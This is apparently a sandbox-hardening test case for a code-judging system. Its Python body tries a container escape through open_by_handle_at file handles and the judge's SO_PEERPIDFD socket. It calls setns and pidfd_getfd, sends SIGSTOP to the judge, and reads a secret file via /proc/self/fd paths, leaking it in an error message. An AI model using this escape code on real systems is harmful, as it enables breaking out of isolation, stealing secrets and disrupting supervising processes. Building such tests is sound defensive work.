# number: 45 50
# source: Shocker (open_by_handle_at, 2014); SO_PEERPIDFD of Linux 6.5
# tries: gets at the host's files through file handles, the judge's end of the socket, and inherited descriptors
# problem: silu
# expect: crashed
# naive: exempt: it is after files, not after a verdict
import ctypes
import os
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
told, secret = [], ""
for inode in range(1, 64):  # the root of most file systems is among them
    handle = struct.pack("<IiQI", 12, 1, inode, 0)
    for fd in (-100, 0, 1, 3):
        opened = libc.syscall(304, fd, handle, os.O_RDONLY)
        if opened >= 0:
            told.append(f"handle {inode}")
link = socket.socket(fileno=3)
for option in (77, 17, 18):  # SO_PEERPIDFD, SO_PEERCRED, and who else there is
    try:
        told.append(f"option {option}: {link.getsockopt(socket.SOL_SOCKET, option, 12).hex()}")
        pidfd = struct.unpack("i", link.getsockopt(socket.SOL_SOCKET, 77, 4))[0]
        told.append(f"enter {libc.syscall(308, pidfd, 0x20000)} fetch {libc.syscall(438, pidfd, 0, 0)}")
        told.append(f"mounts {libc.ioctl(pidfd, 0xFF03, 0)} signal {libc.syscall(424, pidfd, 19, 0, 0)}")
    except OSError as error:
        told.append(f"option {option}: {error.errno}")
for fd in range(3, 64):
    for path in (f"/proc/self/fd/{fd}/../../../..@SECRET_FILE@", f"/proc/self/fd/{fd}@SECRET_FILE@"):
        if os.path.exists(path):
            secret += open(path).read()
raise RuntimeError(f"{secret} {told}")


def run(x):
    return x
